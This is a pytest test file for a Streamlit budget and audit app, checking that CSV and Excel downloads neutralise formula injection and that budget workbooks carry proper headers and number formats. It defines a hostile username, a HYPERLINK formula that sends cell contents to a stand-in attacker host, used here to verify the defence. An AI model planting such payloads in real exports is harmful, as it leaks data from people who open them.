"""Table downloads (issue 11 formula injection; issue 15 "downloads an office can use").

The audit test goes through the real path: a failed sign-in through `auth.accounts.authenticate`,
the admin's audit page run by AppTest, and the files its download buttons would serve.
"""
from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from tests.pages.conftest import make_user
from tests.pages.helpers import run_page

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"세부 보기")'
ADMIN = make_user("admin")


@pytest.fixture
def served(monkeypatch):
    """file name -> bytes of every download button drawn (the deferred callables, run as a click runs them)."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    callables: dict[str, object] = {}
    original = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        callables[file_name] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)

    def files() -> dict[str, bytes]:
        out = {}
        for name, make in callables.items():
            data = make()
            out[name] = data if isinstance(data, bytes) else data.encode("utf-8")
        return out

    return files


def test_failed_sign_in_with_a_formula_name_is_text_in_the_audit_downloads(demo_app_env, served):
    from auth import accounts
    from data_access import db

    result = accounts.authenticate(db.get_engine(), username=HOSTILE, password="wrong")
    assert result.status == "failed"
    at = run_page("pages/admin_audit.py", ADMIN)
    assert not at.exception, at.exception
    files = served()
    assert set(files) == {"signin_audit.csv", "signin_audit.xlsx"}

    rows = list(csv.reader(io.StringIO(files["signin_audit.csv"].decode("utf-8-sig"))))
    users = [r[1] for r in rows[1:]]
    stored = accounts.normalize_username(HOSTILE)
    assert "'" + stored in users and stored not in users  # the apostrophe of OWASP's advice

    sheet = load_workbook(io.BytesIO(files["signin_audit.xlsx"])).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == stored]
    assert cells, "the user name is in the workbook as typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]  # no formula anywhere


def test_budget_download_is_an_office_document(demo_app_env, served):
    """Sheet name, title, 기준일, scope and 단위 rows; the header; numbers with formats; 연도 a number;
    the division in a division head's file name."""
    at = run_page("pages/budget.py", make_user("division_head", "brand"), state={"budget_full_open": True})
    assert not at.exception, at.exception
    files = served()
    assert "budget_2016-08-10_brand.xlsx" in files and "budget_composition_brand.xlsx" in files
    sheet = load_workbook(io.BytesIO(files["budget_composition_brand.xlsx"])).active
    assert sheet.title == "예산 집행 · 구성별 전년 대비"
    assert [sheet.cell(row=r, column=1).value for r in range(1, 5)] == [
        "예산 집행 · 구성별 전년 대비", "기준일 2016. 8. 10.", "범위: 도시브랜드담당관", "단위: 백만원, %"]
    header = [c.value for c in sheet[6]]
    assert header[:2] == ["연도", "구분"]
    years = [sheet.cell(row=r, column=1) for r in range(7, sheet.max_row + 1)]
    assert 2016 in {c.value for c in years} and all(c.data_type == "n" and c.number_format == "0"
                                                             for c in years)
    budget = sheet.cell(row=7, column=header.index("예산액(A)") + 1)
    assert isinstance(budget.value, int) and budget.number_format == "#,##0"
    share = sheet.cell(row=7, column=header.index("비중(%)") + 1)
    assert share.number_format == "#,##0.0"
    assert sheet.freeze_panes == "A7" and sheet.print_title_rows == "$6:$6"
    assert all((sheet.column_dimensions[c].width or 0) >= 6 for c in "ABCDEF")


def test_csv_download_neutralises_text_and_keeps_numbers():
    from ui.downloads import csv_bytes

    frame = pd.DataFrame({"name": ["-홍보", "@x", "[공모] 사업", "\tx"], "amount": [-5, 3, 0, 1],
                          "rate": [-1.5, 2.0, None, 0.25], "day": [dt.date(2016, 8, 10)] * 4})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'-홍보", "'@x", "[공모] 사업", "'\tx"]
    assert [r[1] for r in rows[1:]] == ["-5", "3", "0", "1"] and rows[1][2] == "-1.5"
